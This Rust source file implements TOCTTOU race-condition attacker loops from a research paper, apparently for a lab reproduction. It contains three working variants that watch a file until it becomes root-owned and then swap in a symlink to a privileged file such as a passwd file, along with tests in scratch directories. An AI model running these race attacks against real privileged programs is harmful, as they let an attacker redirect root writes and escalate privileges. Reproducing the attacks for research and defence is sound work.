//! Native attacker loops: real `stat`/`unlink`/`symlink` against the
//! victim's directory, transcribed from the paper's Figures 2/4 and 9.

use std::fs;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

/// Shared stop flag: the lab raises it when the round is over.
pub type StopFlag = Arc<AtomicBool>;

/// Parameters of a native attack loop.
#[derive(Debug, Clone)]
pub struct NativeAttackConfig {
    /// The watched/replaced file.
    pub target: PathBuf,
    /// The privileged file to link to.
    pub privileged: PathBuf,
    /// Dummy path (v2's pre-warming churn), in the attacker's own dir.
    pub dummy: PathBuf,
    /// Give up after this long without a window.
    pub timeout: Duration,
}

/// What the attack loop did.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttackOutcome {
    /// Window detected and the symlink planted.
    Planted,
    /// The stop flag rose (or timeout) before a window appeared.
    NoWindow,
    /// Detected the window but the swap failed (lost the race badly).
    SwapFailed,
}

fn window_open(target: &Path) -> bool {
    // stat(2) follows symlinks; uid 0 on the *followed* target marks the
    // window, exactly like the paper's programs.
    match fs::metadata(target) {
        Ok(m) => m.uid() == 0 && m.gid() == 0,
        Err(_) => false,
    }
}

fn swap(target: &Path, privileged: &Path) -> bool {
    // unlink may race the victim's own rename; tolerate ENOENT.
    let _ = fs::remove_file(target);
    std::os::unix::fs::symlink(privileged, target).is_ok()
}

/// The Figure 2/4 attacker: spin on `stat` until the target is root-owned,
/// then `unlink` + `symlink` once.
pub fn attack_v1(cfg: &NativeAttackConfig, stop: &StopFlag) -> AttackOutcome {
    let deadline = Instant::now() + cfg.timeout;
    while !stop.load(Ordering::Relaxed) {
        if Instant::now() > deadline {
            return AttackOutcome::NoWindow;
        }
        if window_open(&cfg.target) {
            if swap(&cfg.target, &cfg.privileged) {
                return AttackOutcome::Planted;
            }
            return AttackOutcome::SwapFailed;
        }
        std::hint::spin_loop();
    }
    AttackOutcome::NoWindow
}

/// The Figure 9 attacker: `unlink`/`symlink` every iteration (on the dummy
/// while the window is closed) so the code paths stay hot; switch in the
/// real name when the window opens.
pub fn attack_v2(cfg: &NativeAttackConfig, stop: &StopFlag) -> AttackOutcome {
    let deadline = Instant::now() + cfg.timeout;
    while !stop.load(Ordering::Relaxed) {
        if Instant::now() > deadline {
            return AttackOutcome::NoWindow;
        }
        let detected = window_open(&cfg.target);
        let fname: &Path = if detected { &cfg.target } else { &cfg.dummy };
        let _ = fs::remove_file(fname);
        let _ = std::os::unix::fs::symlink(&cfg.privileged, fname);
        if detected {
            return AttackOutcome::Planted;
        }
    }
    AttackOutcome::NoWindow
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scratch(name: &str) -> PathBuf {
        let dir =
            std::env::temp_dir().join(format!("tocttou-attacker-{}-{name}", std::process::id()));
        let _ = fs::remove_dir_all(&dir);
        fs::create_dir_all(&dir).unwrap();
        dir
    }

    fn cfg(dir: &Path) -> NativeAttackConfig {
        NativeAttackConfig {
            target: dir.join("doc.txt"),
            privileged: dir.join("passwd"),
            dummy: dir.join("dummy"),
            timeout: Duration::from_millis(300),
        }
    }

    fn is_root() -> bool {
        crate::sys::euid_is_root()
    }

    #[test]
    fn v1_plants_symlink_on_open_window() {
        if !is_root() {
            eprintln!("skipping: requires root (root-owned target marks the window)");
            return;
        }
        let dir = scratch("v1");
        let c = cfg(&dir);
        fs::write(&c.privileged, b"secrets").unwrap();
        fs::write(&c.target, b"doc").unwrap(); // root-owned: window open
        let stop: StopFlag = Arc::new(AtomicBool::new(false));
        let out = attack_v1(&c, &stop);
        assert_eq!(out, AttackOutcome::Planted);
        let link = fs::read_link(&c.target).unwrap();
        assert_eq!(link, c.privileged);
        fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn v1_times_out_without_window() {
        let dir = scratch("v1-timeout");
        let mut c = cfg(&dir);
        c.timeout = Duration::from_millis(30);
        // Target missing: stat fails, never detects.
        let stop: StopFlag = Arc::new(AtomicBool::new(false));
        assert_eq!(attack_v1(&c, &stop), AttackOutcome::NoWindow);
        fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn v1_respects_stop_flag() {
        let dir = scratch("v1-stop");
        let c = cfg(&dir);
        let stop: StopFlag = Arc::new(AtomicBool::new(true));
        assert_eq!(attack_v1(&c, &stop), AttackOutcome::NoWindow);
        fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn v2_churns_dummy_then_plants() {
        if !is_root() {
            eprintln!("skipping: requires root");
            return;
        }
        let dir = scratch("v2");
        let c = cfg(&dir);
        fs::write(&c.privileged, b"secrets").unwrap();
        fs::write(&c.target, b"doc").unwrap();
        let stop: StopFlag = Arc::new(AtomicBool::new(false));
        let out = attack_v2(&c, &stop);
        assert_eq!(out, AttackOutcome::Planted);
        assert!(fs::read_link(&c.target).is_ok());
        fs::remove_dir_all(&dir).ok();
    }
}

/// The Section 7 pipelined attacker, natively: thread 1 detects and
/// `unlink`s; thread 2 waits on the shared flag and fires `symlink` the
/// moment detection is signalled, overlapping the kernel's unlink work.
///
/// Returns the outcome plus the measured interval between the detection
/// signal and the symlink's completion (the pipelined attack tail).
pub fn attack_pipelined(
    cfg: &NativeAttackConfig,
    stop: &StopFlag,
) -> (AttackOutcome, Option<Duration>) {
    let detected = Arc::new(AtomicBool::new(false));
    let linker_cfg = cfg.clone();
    let linker_detected = detected.clone();
    let linker_stop = stop.clone();
    let linker = std::thread::spawn(move || -> Option<Duration> {
        // Spin on the flag; fire symlink immediately when raised.
        let deadline = Instant::now() + linker_cfg.timeout;
        while !linker_detected.load(Ordering::Acquire) {
            if linker_stop.load(Ordering::Relaxed) || Instant::now() > deadline {
                return None;
            }
            std::hint::spin_loop();
        }
        let fired_at = Instant::now();
        // Retry through the EEXIST race with the detach, like the simulated
        // pipelined pair's flag-triggered thread (`Trigger::Flag`).
        loop {
            match std::os::unix::fs::symlink(&linker_cfg.privileged, &linker_cfg.target) {
                Ok(()) => return Some(fired_at.elapsed()),
                Err(_) if Instant::now() < deadline => continue,
                Err(_) => return None,
            }
        }
    });

    let deadline = Instant::now() + cfg.timeout;
    let outcome = loop {
        if stop.load(Ordering::Relaxed) || Instant::now() > deadline {
            break AttackOutcome::NoWindow;
        }
        if window_open(&cfg.target) {
            detected.store(true, Ordering::Release);
            let _ = fs::remove_file(&cfg.target);
            break AttackOutcome::Planted;
        }
        std::hint::spin_loop();
    };
    if outcome != AttackOutcome::Planted {
        // Unblock the linker thread.
        stop.store(true, Ordering::Relaxed);
    }
    let tail = linker.join().expect("linker thread");
    match (outcome, tail) {
        (AttackOutcome::Planted, Some(t)) => (AttackOutcome::Planted, Some(t)),
        (AttackOutcome::Planted, None) => (AttackOutcome::SwapFailed, None),
        (o, _) => (o, None),
    }
}

#[cfg(test)]
mod pipelined_tests {
    use super::*;

    fn scratch(name: &str) -> PathBuf {
        let dir = std::env::temp_dir().join(format!("tocttou-pipe-{}-{name}", std::process::id()));
        let _ = fs::remove_dir_all(&dir);
        fs::create_dir_all(&dir).unwrap();
        dir
    }

    fn is_root() -> bool {
        crate::sys::euid_is_root()
    }

    #[test]
    fn pipelined_plants_on_open_window() {
        if !is_root() {
            eprintln!("skipping: requires root");
            return;
        }
        let dir = scratch("plant");
        let cfg = NativeAttackConfig {
            target: dir.join("doc"),
            privileged: dir.join("passwd"),
            dummy: dir.join("dummy"),
            timeout: Duration::from_millis(500),
        };
        fs::write(&cfg.privileged, b"s").unwrap();
        // A sizable root-owned target: the unlink has real work to overlap.
        fs::write(&cfg.target, vec![0u8; 512 * 1024]).unwrap();
        let stop: StopFlag = Arc::new(AtomicBool::new(false));
        let (outcome, tail) = attack_pipelined(&cfg, &stop);
        assert_eq!(outcome, AttackOutcome::Planted);
        assert!(tail.is_some(), "symlink landed");
        assert_eq!(fs::read_link(&cfg.target).unwrap(), cfg.privileged);
        fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn pipelined_times_out_cleanly() {
        let dir = scratch("timeout");
        let cfg = NativeAttackConfig {
            target: dir.join("missing"),
            privileged: dir.join("passwd"),
            dummy: dir.join("dummy"),
            timeout: Duration::from_millis(50),
        };
        let stop: StopFlag = Arc::new(AtomicBool::new(false));
        let (outcome, tail) = attack_pipelined(&cfg, &stop);
        assert_eq!(outcome, AttackOutcome::NoWindow);
        assert!(tail.is_none());
        fs::remove_dir_all(&dir).ok();
    }
}
